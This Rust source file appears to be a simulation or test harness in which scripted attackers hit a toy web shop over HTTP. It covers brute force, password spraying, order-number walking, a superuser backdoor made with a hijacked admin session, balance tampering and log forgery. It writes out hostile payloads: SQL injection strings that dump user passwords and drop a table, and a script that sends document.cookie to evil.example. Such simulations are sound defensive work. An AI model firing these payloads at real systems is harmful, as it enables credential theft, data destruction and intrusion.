//! The attackers, each from an address and with a user agent of its own, over real HTTP.

use serde_json::json;

use super::browser::Street;
use super::cast::{GREEDY, GUESSED, GUESSED_AT, NOSY};
use super::customers::{expect, log_in};
use super::form;
use super::shop::{FIRST_ORDER, Person};

/// What an attacker has to work with.
#[derive(Debug)]
pub(crate) struct Scene<'a> {
    /// The way to the shop.
    pub(crate) street: &'a Street,
    /// The accounts, where an attacker has one or learns its password.
    pub(crate) people: &'a [Person],
    /// The admin's session, left open over lunch.
    pub(crate) admin_session: &'a str,
}

/// Guesses at one account.
const GUESSES: usize = 7;
/// Wrong guesses before the right one.
const GUESSES_BEFORE_LUCK: [&str; 3] = ["198.51.100.31", "198.51.100.32", "198.51.100.33"];
/// Accounts that get one common password each.
const SPRAYED: [&str; 12] = [
    "dana", "emil", "fatima", "george", "hanna", "igor", "jonas", "kaya", "liam", "mira", "nils",
    "oscar",
];
/// Orders walked through, all of other people.
const ORDERS_WALKED: u32 = 8;

/// Seven passwords against one account.
pub(crate) fn brute_force(scene: &Scene<'_>) -> anyhow::Result<()> {
    let mut browser = scene
        .street
        .visitor("203.0.113.10", "Mozilla/5.0 (compatible; Guess/1.0)");
    for _ in 0..GUESSES {
        let guess = scene.street.planted.password("guessed password")?;
        expect(browser.log_in(GUESSED_AT, &guess)?, 401, "a wrong guess")?;
    }
    Ok(())
}

/// One password against twelve accounts.
pub(crate) fn spraying(scene: &Scene<'_>) -> anyhow::Result<()> {
    let mut browser = scene
        .street
        .visitor("203.0.113.20", "Mozilla/5.0 (compatible; Mist/2.1)");
    let guess = scene.street.planted.password("sprayed password")?;
    for name in SPRAYED {
        expect(browser.log_in(name, &guess)?, 401, "a sprayed password")?;
    }
    Ok(())
}

/// Six wrong passwords from three addresses, the right one from a fourth.
pub(crate) fn lucky_guess(scene: &Scene<'_>) -> anyhow::Result<()> {
    let agent = "Mozilla/5.0 (Linux; Android 16) AppleWebKit/537.36 Mobile Safari/537.36";
    for address in GUESSES_BEFORE_LUCK {
        let mut browser = scene.street.visitor(address, agent);
        for _ in 0..2 {
            let guess = scene.street.planted.password("guessed password")?;
            expect(browser.log_in(GUESSED, &guess)?, 401, "a wrong guess")?;
        }
    }
    let mut browser = scene.street.visitor("198.51.100.34", agent);
    log_in(&mut browser, scene.people, GUESSED)?;
    expect(
        browser.look_at("/profile")?,
        200,
        "the profile of the victim",
    )
}

/// Order numbers one after the other with a valid session.
pub(crate) fn order_walk(scene: &Scene<'_>) -> anyhow::Result<()> {
    let agent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:140.0) Gecko/20100101 Walker/140.0";
    let mut browser = scene.street.visitor("203.0.113.40", agent);
    log_in(&mut browser, scene.people, NOSY)?;
    for order in FIRST_ORDER..FIRST_ORDER + ORDERS_WALKED {
        expect(
            browser.look_at(&format!("/orders/{order}"))?,
            403,
            "a foreign order",
        )?;
    }
    Ok(())
}

/// Probes for SQL injection in the search box.
pub(crate) fn sql_injection(scene: &Scene<'_>) -> anyhow::Result<()> {
    let mut browser = scene
        .street
        .visitor("2001:db8:bad::50", "Mozilla/5.0 (X11) Quote/0.9");
    for probe in [
        "lamp' OR '1'='1' -- ",
        "lamp' UNION SELECT username, password FROM users -- ",
        "lamp'; DROP TABLE orders; -- ",
    ] {
        expect(browser.search(probe)?, 200, "a probe")?;
    }
    Ok(())
}

/// A script in the search box.
pub(crate) fn cross_site_scripting(scene: &Scene<'_>) -> anyhow::Result<()> {
    let mut browser = scene
        .street
        .visitor("198.51.100.60", "Mozilla/5.0 (X11) Angle/0.3");
    let probe = "<script>fetch('//evil.example/'+document.cookie)</script>";
    expect(browser.search(probe)?, 200, "a probe")
}

/// An account for ever, made with somebody else's session.
pub(crate) fn superuser(scene: &Scene<'_>) -> anyhow::Result<()> {
    let agent = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/99.0.0.0 Safari/537.36";
    let mut browser = scene.street.visitor("203.0.113.70", agent);
    browser.wear(scene.admin_session);
    let password = scene.street.planted.password("password of the back door")?;
    let account = json!({ "name": "backdoor", "role": "superuser", "password": password });
    expect(
        browser.send_json("/admin/users", &account)?,
        201,
        "the back door",
    )
}

/// The attack of the text book: nobody checks who sets a balance.
pub(crate) fn riches(scene: &Scene<'_>) -> anyhow::Result<()> {
    let mut browser = scene
        .street
        .visitor("203.0.113.80", "Mozilla/5.0 (iPhone) Coin/3.0");
    log_in(&mut browser, scene.people, GREEDY)?;
    let riches = json!({ "user": GREEDY, "balance": "9999999" });
    expect(
        browser.send_json("/update-balance", &riches)?,
        200,
        "the riches",
    )
}

/// A user name that forges a line of the log and wipes the terminal of whoever reads it.
pub(crate) fn log_forgery(scene: &Scene<'_>) -> anyhow::Result<()> {
    let mut browser = scene
        .street
        .visitor("203.0.113.90", "Mozilla/5.0 (X11) Scribe/1.1");
    let guess = scene.street.planted.password("guessed password")?;
    let name = "eve\r\n[INFO] User login attempt: user=olga, IP=192.0.2.20, status=OK\u{1b}[2K";
    expect(browser.log_in(name, &guess)?, 401, "the forged name")
}

/// A password and a card number in an address bar, as a badly made link would put them there.
pub(crate) fn secrets_in_url(scene: &Scene<'_>) -> anyhow::Result<()> {
    let mut browser = scene
        .street
        .visitor("198.51.100.100", "Mozilla/5.0 (X11) Careless/1.0");
    let password = scene
        .street
        .planted
        .password("password in a query string")?;
    let card = scene
        .street
        .planted
        .card_number("card number in a query string")?;
    let query = form::joined(&[("q", "gift"), ("password", &password), ("card", &card)]);
    expect(
        browser.look_at(&format!("/search?{query}"))?,
        200,
        "the careless link",
    )
}
